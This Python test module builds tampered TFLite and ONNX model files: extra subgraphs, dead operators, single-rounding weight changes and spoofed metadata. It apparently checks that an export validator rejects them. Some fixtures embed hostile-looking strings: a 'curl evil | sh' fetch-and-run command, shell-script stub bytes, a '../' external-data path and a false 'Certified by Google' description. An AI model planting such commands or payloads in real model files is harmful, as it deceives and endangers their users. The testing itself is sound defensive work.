"""Faults of TFLite and ONNX files: what another consumer than our runtime reads, or what no golden input reaches."""

import copy

import numpy as np

from export.formats import tflite, tflite_metadata


def change_tflite(path, change, contract=None):
    """Write a TFLite file again, changed; metadata of ours are attached again where a contract is given."""
    import flatbuffers
    from ai_edge_litert import schema_py_generated as schema

    model = schema.ModelT.InitFromObj(schema.Model.GetRootAs(path.read_bytes(), 0))
    names = [entry.name.decode() for entry in model.metadata]
    entry = model.metadata.pop(names.index(tflite_metadata.NAME))
    assert entry.buffer == len(model.buffers) - 1
    model.buffers.pop()
    change(model, schema)
    builder = flatbuffers.Builder(1 << 16)
    builder.Finish(model.Pack(builder), b"TFL3")
    file = bytes(builder.Output())
    path.write_bytes(file if contract is None else tflite.with_metadata(file, "functional_cnn", contract))


def _set(of, **values):
    """Return a change of the fields of one table."""

    def change(model, schema):
        for name, value in values.items():
            setattr(of(model), name, value)

    return change


def _input(model):
    return model.subgraphs[0].tensors[int(model.subgraphs[0].inputs[0])]


def _operator(model, code):
    codes = [c.builtinCode for c in model.operatorCodes]
    return next(o for o in model.subgraphs[0].operators if codes[o.opcodeIndex] == code)


def _weights(model):
    """Return the buffer of the largest constant."""
    sizes = [0 if b.data is None else len(b.data) for b in model.buffers]
    return model.buffers[int(np.argmax(sizes))]


def _another_primary(model, schema):
    """Put a graph that never applies its activation before that of the signature."""
    first = copy.deepcopy(model.subgraphs[0])
    for operator in first.operators:
        if hasattr(operator.builtinOptions, "fusedActivationFunction"):
            operator.builtinOptions.fusedActivationFunction = 0
    model.subgraphs.insert(0, first)
    model.signatureDefs[0].subgraphIndex = 1


def _another_subgraph(model, schema):
    model.subgraphs.append(copy.deepcopy(model.subgraphs[0]))


def _payload(model, schema):
    buffer = schema.BufferT()
    buffer.data = np.frombuffer(b"#!/bin/sh\n" * 9, np.uint8)
    model.buffers.append(buffer)


def _metadata(model, schema):
    _payload(model, schema)
    entry = schema.MetadataT()
    entry.name, entry.buffer = "delegate_options", len(model.buffers) - 1
    model.metadata.append(entry)


def _one_rounding(model, schema):
    values = np.asarray(_weights(model).data, np.uint8).view(np.float32).copy()
    values[0] = np.nextafter(values[0], np.float32(9))
    _weights(model).data = values.view(np.uint8)


def _dead_operator(model, schema):
    graph = model.subgraphs[0]
    operator = copy.deepcopy(graph.operators[-1])
    tensor = copy.deepcopy(graph.tensors[int(operator.outputs[0])])
    tensor.name = "dead"
    graph.tensors.append(tensor)
    operator.outputs = np.array([len(graph.tensors) - 1], np.int32)
    graph.operators.append(operator)


def _signature(model, schema):
    other = copy.deepcopy(model.signatureDefs[0])
    other.signatureKey = "predict"
    model.signatureDefs.append(other)


def _scale(model, schema):
    quantization = schema.QuantizationParametersT()
    quantization.scale, quantization.zeroPoint = np.array([0.5], np.float32), np.array([3], np.int64)
    _input(model).quantization = quantization


def _buffer_of_options(model, schema):
    operator = model.subgraphs[0].operators[0]
    operator.customOptions = np.frombuffer(b"payload", np.uint8)


def _clipped(model, schema):
    options = _operator(model, schema.BuiltinOperator.CONV_2D).builtinOptions
    options.fusedActivationFunction = schema.ActivationFunctionType.RELU6


def _asymmetric(model, schema):
    _operator(model, schema.BuiltinOperator.FULLY_CONNECTED).builtinOptions.asymmetricQuantizeInputs = True


# name -> (what is misled, the change). The function that a signature computes stays the same, or almost.
TFLITE = {
    "another primary subgraph": ("Interpreter.invoke()", _another_primary),
    "a further subgraph": ("a C++ program", _another_subgraph),
    "a buffer that nothing reads": ("a person", _payload),
    "further metadata": ("a delegate", _metadata),
    "a weight off by one rounding": ("every interpreter", _one_rounding),
    "an operator without use": ("Interpreter.get_tensor", _dead_operator),
    "a further signature": ("a client", _signature),
    "a scale of a float input": ("a program that quantizes its input", _scale),
    "options of no operator": ("a delegate", _buffer_of_options),
    "another name of the input": ("a program without signatures", _set(_input, name="serving_default_mask:0")),
    "another shape signature": (
        "a program that resizes",
        _set(
            lambda m: m.subgraphs[0].tensors[int(m.subgraphs[0].inputs[0])],
            shapeSignature=np.array([-1, 12, 12, 1], np.int32),
        ),
    ),
    "a variable tensor": (
        "an interpreter that keeps states",
        _set(lambda m: m.subgraphs[0].tensors[-1], isVariable=True),
    ),
    "another version of an operator": ("an older runtime", _set(lambda m: m.operatorCodes[0], version=9)),
    "another description": ("a person", _set(lambda m: m, description="Certified by Google")),
    "ReLU clipped at 6": ("every interpreter", _clipped),
    "asymmetric inputs of a layer": ("dynamic quantization", _asymmetric),
}


def change_onnx(path, change):
    import onnx

    model = onnx.load(path)
    change(model, onnx)
    path.write_bytes(model.SerializeToString())


def _sparse(model, onnx):
    tensor = model.graph.initializer[0]
    sparse = model.graph.sparse_initializer.add()
    sparse.values.CopyFrom(onnx.numpy_helper.from_array(np.zeros(1, np.float32), tensor.name))
    sparse.indices.CopyFrom(onnx.numpy_helper.from_array(np.zeros(1, np.int64), "indices"))
    sparse.dims.append(3)


def _function(model, onnx):
    node = onnx.helper.make_node("Neg", ["x"], ["y"])
    opsets = [onnx.helper.make_opsetid("", 18)]
    model.functions.append(onnx.helper.make_function("ours", "Other", ["x"], ["y"], [node], opsets))


def _dead_node(model, onnx):
    model.graph.node.append(onnx.helper.make_node("Neg", [model.graph.output[0].name], ["dead"]))


def _unused(model, onnx):
    model.graph.initializer.append(onnx.numpy_helper.from_array(np.ones(9, np.float32), "unused"))


def _ulp(model, onnx):
    tensor = max(model.graph.initializer, key=lambda t: len(t.raw_data))
    values = onnx.numpy_helper.to_array(tensor).copy()
    values.flat[0] = np.nextafter(values.flat[0], np.float32(9))
    tensor.CopyFrom(onnx.numpy_helper.from_array(values, tensor.name))


def _external(model, onnx):
    tensor = max(model.graph.initializer, key=lambda t: len(t.raw_data))
    tensor.data_location = onnx.TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", "../golden/weights.npz"
    tensor.ClearField("raw_data")


def _clip(model, onnx):
    output = model.graph.output[0].name
    node = next(n for n in model.graph.node if output in n.output)
    node.output[0] = "unclipped"
    model.graph.initializer.append(onnx.numpy_helper.from_array(np.float32(1000), "top"))
    model.graph.node.append(onnx.helper.make_node("Min", ["unclipped", "top"], [output]))


def _value_info(model, onnx):
    model.graph.value_info.append(onnx.helper.make_tensor_value_info("hidden", 1, [7]))


def _training(model, onnx):
    model.training_info.add().algorithm.CopyFrom(model.graph)


def _attribute(model, onnx):
    node = next(n for n in model.graph.node if n.op_type in ("Conv", "MaxPool"))
    node.attribute.append(onnx.helper.make_attribute("ceil_mode" if node.op_type == "MaxPool" else "group", 1))


def _output(model, onnx):
    model.graph.output.append(onnx.helper.make_tensor_value_info(model.graph.node[0].output[0], 1, None))


def _unknown(model, onnx):
    model.ParseFromString(model.SerializeToString() + b"\xda\x06\x03abc")


ONNX = {
    "a sparse initializer": ("onnxruntime", _sparse),
    "a local function": ("a converter", _function),
    "a node without use": ("onnxruntime with more outputs", _dead_node),
    "an initializer without use": ("a person", _unused),
    "a weight off by one rounding": ("onnxruntime", _ulp),
    "values in a file of the bundle": ("onnxruntime", _external),
    "clipped at 1000": ("onnxruntime", _clip),
    "a shape of no value": ("a compiler", _value_info),
    "a graph of training": ("a trainer", _training),
    "an attribute that is the default": ("a converter", _attribute),
    "metadata": ("a server", lambda m, o: m.metadata_props.add(key="config", value="evil")),
    "another name of the model": ("a person", lambda m, o: setattr(m, "producer_name", "another")),
    "another opset": ("onnxruntime", lambda m, o: m.opset_import.add(domain="com.microsoft", version=1)),
    "text of the graph": ("a person", lambda m, o: setattr(m.graph, "doc_string", "curl evil | sh")),
    "a further output": ("onnxruntime", _output),
    "a field of another release": ("a newer reader", _unknown),
}
